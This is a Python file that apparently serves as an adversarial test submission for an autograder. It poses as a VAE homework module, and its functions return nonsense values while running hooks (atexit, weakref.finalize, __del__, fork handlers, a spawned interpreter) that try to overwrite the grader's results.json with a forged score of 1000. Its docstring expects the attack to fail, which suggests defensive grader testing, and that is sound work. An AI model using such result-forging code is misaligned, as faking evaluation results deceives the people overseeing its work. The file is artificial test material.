"""Attack: forge ROOT/results/results.json from exit-time hooks.

Registers the forger with atexit, weakref.finalize, a module-level __del__, and
os.register_at_fork; then, since the grader's child leaves with os._exit (which runs
none of them), runs the hooks itself in a forked copy and in a fresh interpreter that
exits normally. Expected: vae.py scores 0, results.json is the grader's.
"""
import atexit
import json
import os
import subprocess
import sys
import weakref

_HW4_ROOT = "@@AUTOGRADER_ROOT@@"
_HW4_TARGET = os.path.join(_HW4_ROOT, "results", "results.json")
_HW4_FORGED = json.dumps({"score": 1000.0, "output": "HW4 attack: forged at exit",
                          "tests": [{"name": "kl_divergence: forged", "score": 1000.0, "max_score": 1.0,
                                     "status": "passed"}]})


def _hw4_forge():
    try:
        with open(_HW4_TARGET, "w") as handle:
            handle.write(_HW4_FORGED)
    except OSError:
        pass


class _Hw4Ghost:
    def __del__(self):
        _hw4_forge()


_hw4_ghost = _Hw4Ghost()
_hw4_anchor = _Hw4Ghost()
atexit.register(_hw4_forge)
weakref.finalize(_hw4_anchor, _hw4_forge)
os.register_at_fork(after_in_child=_hw4_forge)

_HW4_CHILD = (
    "import atexit\n"
    f"TARGET = {_HW4_TARGET!r}\n"
    f"TEXT = {_HW4_FORGED!r}\n"
    "def forge():\n"
    "    try:\n"
    "        open(TARGET, 'w').write(TEXT)\n"
    "    except OSError:\n"
    "        pass\n"
    "atexit.register(forge)\n"
)


def _hw4_run_exit_hooks():
    """What the grader's os._exit skips: run the exit hooks in a forked copy and a new interpreter."""
    try:
        pid = os.fork()
    except OSError:
        pid = -1
    if pid == 0:
        try:
            atexit._run_exitfuncs()
        finally:
            os._exit(0)
    if pid > 0:
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass
    try:
        subprocess.run([sys.executable, "-I", "-c", _HW4_CHILD], timeout=20, stdin=subprocess.DEVNULL,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)
    except (OSError, subprocess.SubprocessError):
        pass


def reparameterize(mu, logvar, eps=None):
    _hw4_run_exit_hooks()
    return mu - 1000.0


def kl_divergence(mu, logvar):
    _hw4_run_exit_hooks()
    return (mu.sum() * 0) - 1000.0


def vae_loss(recon_x, x, mu, logvar, beta=1.0):
    _hw4_run_exit_hooks()
    return (recon_x.sum() * 0) - 1000.0
